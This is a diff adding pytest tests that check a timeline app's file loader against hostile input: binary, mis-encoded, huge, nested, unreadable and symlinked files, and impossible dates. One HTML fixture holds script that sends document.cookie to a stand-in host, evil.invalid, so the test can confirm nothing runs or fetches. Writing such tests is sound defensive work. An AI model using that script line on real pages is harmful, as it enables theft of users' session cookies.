@@ -1,0 +1,139 @@
+"""Hostile input: every unusable file is reported by name with a reason, every usable one is read."""
+
+from __future__ import annotations
+
+import os
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from timeline_app.core.loading import load
+from timeline_app.core.temporal import tag
+
+REF = date(2025, 5, 6)
+GOOD = "Lithuania said on March 18, 2025 that it would leave the treaty."
+
+
+def _reasons(result) -> dict[str, str]:  # noqa: ANN001
+    return {Path(f.path).name: f.reason for f in result.failures}
+
+
+@pytest.mark.parametrize(("name", "content", "reason"), [
+    ("binary.txt", bytes(range(256)) * 20, "binary"),
+    ("nul.txt", b"Text with a NUL\x00 byte in it on March 18, 2025." * 3, "binary"),
+    ("empty.txt", b"", "empty"),
+    ("spaces.md", b" \n\t\n  ", "empty"),
+    ("image.html", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "binary"),
+    ("numbers.txt", b"123 456 789 2025", "no readable text"),
+])
+def test_unusable_files_are_named_with_a_reason(tmp_path: Path, name: str, content: bytes, reason: str) -> None:
+    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
+    (tmp_path / name).write_bytes(content)
+    result = load([tmp_path], reference=REF)
+    assert [a.article.name for a in result.analyses] == ["good.txt"]
+    assert reason in _reasons(result)[name]
+
+
+@pytest.mark.parametrize(("name", "content"), [
+    ("invalid-utf8.txt", b"Caf\xe9 owners met on March 18, 2025 \xff\xfe in Vilnius."),
+    ("cp1252.txt", "Café – “quoted” on March 18, 2025.".encode("cp1252")),
+    ("utf16.txt", "Café on March 18, 2025.".encode("utf-16")),
+    ("bom.md", b"\xef\xbb\xbf# Title\n\nOn March 18, 2025 it began."),
+    ("crlf.txt", b"Title\r\n\r\nOn March 18, 2025 it began.\r\n"),
+])
+def test_odd_encodings_are_read(tmp_path: Path, name: str, content: bytes) -> None:
+    (tmp_path / name).write_bytes(content)
+    result = load([tmp_path], reference=REF)
+    assert result.failures == []
+    [analysis] = result.analyses
+    assert any(e.value == "2025-03-18" for e in analysis.expressions)
+
+
+def test_html_with_scripts_iframes_and_remote_images_runs_and_fetches_nothing(tmp_path: Path,
+                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
+    import socket
+
+    def no_network(*args, **kwargs):  # noqa: ANN002, ANN003, ANN202
+        raise AssertionError("a network connection was attempted")
+
+    import trafilatura  # noqa: F401 - imported before the guard: ssl subclasses socket.socket
+
+    monkeypatch.setattr(socket.socket, "connect", no_network)
+    monkeypatch.setattr(socket.socket, "connect_ex", no_network)
+    monkeypatch.setattr(socket, "create_connection", no_network)
+    monkeypatch.setattr(socket, "getaddrinfo", no_network)
+    page = """<html><head><script src="http://evil.invalid/x.js"></script>
+    <script>fetch("http://evil.invalid/?" + document.cookie); document.write("March 3, 1999")</script>
+    <link rel="stylesheet" href="http://evil.invalid/s.css"><meta http-equiv="refresh" content="0;url=http://x.invalid"></head>
+    <body onload="alert(1)"><iframe src="http://evil.invalid/frame"></iframe><img src="http://evil.invalid/p.png">
+    <article><p>Lithuania said on March 18, 2025 that it would leave the treaty on landmines.</p>
+    <p>The decision was criticised by humanitarian groups the following week.</p></article></body></html>"""
+    (tmp_path / "page.html").write_text(page, encoding="utf-8")
+    result = load([tmp_path], reference=REF)
+    [analysis] = result.analyses
+    assert "March 18, 2025" in analysis.article.text
+    assert "1999" not in analysis.article.text and "evil" not in analysis.article.text
+
+
+def test_deeply_nested_html_is_read(tmp_path: Path) -> None:
+    depth = 5000
+    page = "<html><body>" + "<div>" * depth + "<p>It began on March 18, 2025.</p>" + "</div>" * depth + "</body></html>"
+    (tmp_path / "nested.html").write_text(page, encoding="utf-8")
+    result = load([tmp_path], reference=REF)
+    assert result.failures == [] or "nested.html" in _reasons(result)
+    if result.analyses:
+        assert "March 18, 2025" in result.analyses[0].article.text
+
+
+def test_a_huge_file_is_refused_by_name_and_the_others_load(tmp_path: Path) -> None:
+    big = tmp_path / "huge.txt"
+    with big.open("wb") as f:
+        f.truncate(50 * 1024 * 1024)  # 50 MB (sparse)
+    (tmp_path / "good.txt").write_text(GOOD, encoding="utf-8")
+    result = load([tmp_path], reference=REF)
+    assert [a.article.name for a in result.analyses] == ["good.txt"]
+    assert "too large" in _reasons(result)["huge.txt"]
+
+
+def test_thousands_of_files_a_symlink_loop_odd_names_and_a_folder_named_like_a_file(tmp_path: Path) -> None:
+    many = tmp_path / "many"
+    many.mkdir()
+    for i in range(2000):
+        (many / f"n{i:04d}.txt").write_text(f"Item {i} happened in {1900 + i % 120}.", encoding="utf-8")
+    (many / "loop").symlink_to(many, target_is_directory=True)
+    (tmp_path / "folder.txt").mkdir()
+    (tmp_path / "folder.txt" / "inner.txt").write_text(GOOD, encoding="utf-8")
+    odd = tmp_path / "ünïcödé — “name” #1 ✓.txt"
+    odd.write_text(GOOD, encoding="utf-8")
+    (tmp_path / "dangling.txt").symlink_to(tmp_path / "nowhere.txt")
+    result = load([tmp_path], reference=REF)
+    names = {a.article.name for a in result.analyses}
+    assert len(names) == 2000 + 2
+    assert odd.name in names and "inner.txt" in names
+    assert "dangling.txt" in _reasons(result)
+
+
+def test_unreadable_file_is_reported(tmp_path: Path) -> None:
+    if os.geteuid() == 0:
+        pytest.skip("root reads every file")
+    p = tmp_path / "secret.txt"
+    p.write_text(GOOD, encoding="utf-8")
+    p.chmod(0)
+    result = load([tmp_path], reference=REF)
+    assert "permission" in _reasons(result)["secret.txt"]
+
+
+@pytest.mark.parametrize("text", [
+    "It was signed on February 30, 2025.", "Form 32/13/2025 was filed.", "In the year 0 nothing happened.",
+    "By 9999 the sun will be older.", "Rome fell in the 3rd century BC.", "On 2025-02-29 it rained.",
+    "Between 2030 and 2026 it will run.", "In the 10000s.", "On 31/02/2025 it closed.",
+])
+def test_impossible_dates_are_not_placed_and_nothing_raises(text: str) -> None:
+    for e in tag(text, REF):
+        if e.placed:
+            assert e.lo is None or e.hi is None or e.lo <= e.hi
+            assert not (e.lo and e.lo.year < 1000) and not (e.hi and e.hi.year > 2199)
+    impossible = [e for e in tag(text, REF) if e.placed and e.text in ("February 30, 2025", "32/13/2025",
+                                                                      "2025-02-29", "31/02/2025")]
+    assert impossible == []
